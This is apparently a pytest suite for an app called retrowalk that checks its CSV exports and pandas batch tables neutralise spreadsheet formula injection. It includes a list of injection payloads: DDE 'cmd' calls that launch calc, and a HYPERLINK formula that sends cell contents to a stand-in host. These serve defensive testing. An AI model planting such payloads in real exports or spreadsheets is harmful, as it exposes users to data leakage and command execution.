"""Every CSV the app writes neutralises cells a spreadsheet would run as a formula
(the export's CSV files and the child summary CSV), through one helper."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from sechelpers import browser, running_server, sign_up, token_headers

from retrowalk.core.csvcells import csv_text, safe_cell, safe_frame

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "retrowalk"


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_cells_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_text([{"note": value, "n": -3.5}]))))
    assert rows[1] == ["'" + value, "-3.5"]  # numbers stay numbers


def test_plain_and_numeric_cells_are_unchanged() -> None:
    for value in ("walked well", "-3.5", "+2", "1e-3", "", None, 7, -1.25):
        assert safe_cell(value) == value


def test_no_other_csv_writer_in_the_app() -> None:
    """The app writes CSV only through retrowalk.core.csvcells (batch tables of
    numbers are written by pandas and are checked separately)."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|(?<!safe_frame\(table\))\.to_csv\(")
    found = [
        str(p.relative_to(SRC))
        for p in SRC.rglob("*.py")
        if writers.search(p.read_text()) and p.name != "csvcells.py"
    ]
    assert found == []


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _check(cells: list[str], payloads: list[str]) -> None:
    for payload in payloads:
        assert payload not in cells
        assert "'" + payload in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)


def test_export_and_child_summary_csv(database_url: str, tmp_path: Path) -> None:
    with running_server(database_url, tmp_path) as base, browser(base) as http:
        sign_up(http, "csv@example.org")
        auth = token_headers(http, "csv@example.org")
        adult = http.post("/api/v1/people", headers=auth, json={"name": "Ann"}).json()["id"]
        for note in PAYLOADS:
            r = http.post(
                f"/api/v1/people/{adult}/observations",
                headers=auth,
                json={"date": "2025-02-01", "kind": "note", "payload": {}, "note": note},
            )
            assert r.status_code == 201, r.text
        export = http.get(f"/api/v1/people/{adult}/export", headers=auth)
        with zipfile.ZipFile(io.BytesIO(export.content)) as zf:
            _check(_cells(zf.read("observations.csv").decode()), PAYLOADS)
        child = http.post(
            "/api/v1/people",
            headers=auth,
            json={"name": "Kit", "kind": "child", "birth_date": "2024-01-10"},
        ).json()["id"]
        skills = re.findall(r'<option value="([a-z0-9_]+)"', http.get(f"/children/{child}").text)
        assert skills
        for note in PAYLOADS:
            r = http.post(
                f"/api/v1/children/{child}/observations",
                headers=auth,
                json={"date": "2025-02-01", "skill": skills[0], "note": note},
            )
            assert r.status_code == 201, r.text
        summary = http.get(f"/children/{child}/summary.csv")
        assert summary.status_code == 200
        _check(_cells(summary.text), [p.strip() for p in PAYLOADS])  # notes are trimmed


def test_batch_tables_are_neutralised_too() -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"recording_id": ["=cmd|' /C calc'!A0", "walk"], "speed_mps": [-0.5, 1.0]})
    rows = list(csv.reader(io.StringIO(safe_frame(frame).to_csv(index=False))))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-0.5"] and rows[2] == ["walk", "1.0"]


def test_a_carriage_return_in_a_batch_table_cell_does_not_end_its_row() -> None:
    """pandas quotes a cell holding a line feed but not one holding a bare carriage
    return, which CSV readers take for the end of the row."""
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"note": ["a\rb", "\r=1+1", "c\r\nd", "plain"], "n": [1, 2, 3, 4]})
    text = safe_frame(frame).to_csv(index=False)
    back = pd.read_csv(io.StringIO(text))
    assert back["n"].tolist() == [1, 2, 3, 4]
    assert back["note"].tolist() == ["a\nb", "'\n=1+1", "c\nd", "plain"]


def test_a_column_of_repeated_words_is_checked_once_per_word_and_still_neutralised() -> None:
    """A text column whose distinct values need no change is written as it is; one
    formula among many repeated words, or cells that are not text (lists, None),
    still go cell by cell."""
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame(
        {
            "direction": ["forward", "backward"] * 50,
            "id": ["walk"] * 99 + ["@SUM(A1)"],
            "parts": [["=1+1"], None] * 50,
        }
    )
    out = safe_frame(frame)
    assert out["direction"].tolist() == frame["direction"].tolist()
    assert out["id"].tolist() == ["walk"] * 99 + ["'@SUM(A1)"]
    assert out["parts"].tolist() == frame["parts"].map(lambda v: v).tolist()
